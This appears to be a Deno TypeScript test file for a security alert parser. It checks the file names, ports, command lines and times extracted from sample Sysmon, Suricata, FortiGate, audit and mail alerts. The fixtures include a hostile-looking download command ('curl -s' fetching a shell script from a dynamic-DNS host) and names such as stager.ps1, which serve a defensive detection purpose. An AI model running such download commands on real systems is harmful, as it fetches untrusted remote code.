import { assert, assertEquals } from "@std/assert";
import { parseAlert } from "../../lib/alert/alert.ts";
import { type AlertFacts, alertFactsOf } from "../../lib/match/alert_facts.ts";

const ALERTS = new URL("../testdata/alerts/", import.meta.url);

type Facts = Omit<AlertFacts, "fieldsOf">;

/** What alerts say besides IoCs, and the first of their times. */
const SAID: Readonly<Record<string, Partial<Facts>>> = {
  sysmon_eid1_ini2: {
    fileNames: ["wscript.exe"],
    folders: ["C:\\Windows\\System32"],
    programNames: ["wscript.exe"],
    commandLines: ['"C:\\Windows\\System32\\notepad.exe"'],
    times: ["2021-04-28T20:11:55.3643213Z"],
  },
  sysmon_eid7_ini2: {
    fileNames: ["System.Management.Automation.ni.dll"],
    folders: [
      "C:\\Windows\\assembly\\NativeImages_v4.0.30319_64\\System.Manaa57fc8cc#\\b9fb242f469332d0a2e43fbb5bed25bd",
    ],
    programNames: ["tiny.exe"],
    times: ["2021-06-30T20:19:05.025071300Z"],
  },
  sysmon_eid11_ini2: {
    fileNames: ["stager.ps1"],
    folders: ["C:\\Users\\st9\\AppData\\Local"],
    programNames: ["adb156.exe"],
    times: ["2021-09-29T10:09:46.3002205Z"],
  },
  sysmon_eid3_public: {
    sourcePorts: ["49815"],
    destinationPorts: ["8080"],
    transports: ["tcp"],
    fileNames: ["invoice.exe"],
    folders: ["C:\\Users\\bob"],
    programNames: ["invoice.exe"],
    times: ["2021-05-06T21:35:17.0534150Z"],
  },
  syscheck_modified_linux: {
    fileNames: ["hosts"],
    folders: ["/etc"],
    times: ["2026-11-24T02:45:49.037+0000"],
  },
  suricata_alert_http: {
    sourcePorts: ["41112"],
    destinationPorts: ["80"],
    transports: ["tcp"],
    applications: ["http"],
    methods: ["GET"],
    requests: ["/virus/eicar.com?a=1"],
    userAgents: ["curl/7.47.0"],
    times: ["2025-11-20T10:15:30.123456+0000"],
  },
  fortigate_L188: {
    sourcePorts: ["52414"],
    destinationPorts: ["443"],
    transports: ["tcp"],
    requests: [
      "/p?partition=-2&cb=lz1k&failure=5&sticky_token=274&sticky_pool=atn2c06_chat-proxy",
    ],
    times: ["2026-11-24T02:46:53.663+0000"],
  },
  packetbeat_dns: {
    sourcePorts: ["51234"],
    destinationPorts: ["53"],
    transports: ["udp"],
    applications: ["dns"],
    times: ["2025-11-20T10:15:30.000Z"],
  },
  win_5156_wfp: {
    sourcePorts: ["50123"],
    destinationPorts: ["443"],
    transports: ["tcp"],
    times: ["2024-11-20T10:15:30.1234567Z"],
  },
  audit_command_curl_url: {
    fileNames: ["curl"],
    folders: ["/usr/bin"],
    programNames: ["curl"],
    commandLines: ["curl -s http://morrishittu.ddns.net/a.sh"],
    times: ["2026-11-24T02:46:17.006+0000"],
  },
  office365_ti_mail: {
    fileNames: ["invoice.exe"],
    subjects: ["Invoice"],
    times: ["2026-11-24T03:22:39.090+0000"],
  },
};

Deno.test("alertFactsOf() reads what alerts say besides IoCs", async (t) => {
  for (const [name, expected] of Object.entries(SAID)) {
    await t.step(name, async () => {
      const json = await Deno.readTextFile(new URL(`${name}.json`, ALERTS));
      const { fieldsOf: _, times, ...facts } = alertFactsOf(parseAlert(json));
      const said = Object.entries({ ...facts, times: times.slice(0, 1) })
        .filter(([, texts]) => texts.length > 0);
      assertEquals<Partial<Facts>>(Object.fromEntries(said), expected);
      assert(times.length > 0 && times.every((time) => Date.parse(time) > 0));
    });
  }
});

Deno.test("alertFactsOf() finds the fields of a text, and of no more than are read", () => {
  const many = Array.from({ length: 6000 }, (_, n) => `x${n}`);
  const { fieldsOf } = alertFactsOf(parseAlert(JSON.stringify({
    data: { many, a: [{ b: "10.0.0.1 " }], n: 443 },
    syscheck: { path: "/etc/HOSTS" },
  })));
  assertEquals(fieldsOf("10.0.0.1"), ["data.a.0.b"]);
  assertEquals(fieldsOf("443"), ["data.n"]);
  assertEquals(fieldsOf("/etc/hosts"), ["syscheck.path"]);
  assertEquals(fieldsOf("none"), []);
  const found = many.filter((text) => fieldsOf(text).length > 0);
  assert(found.length > 4000 && found.length < 5000, `${found.length}`);
});
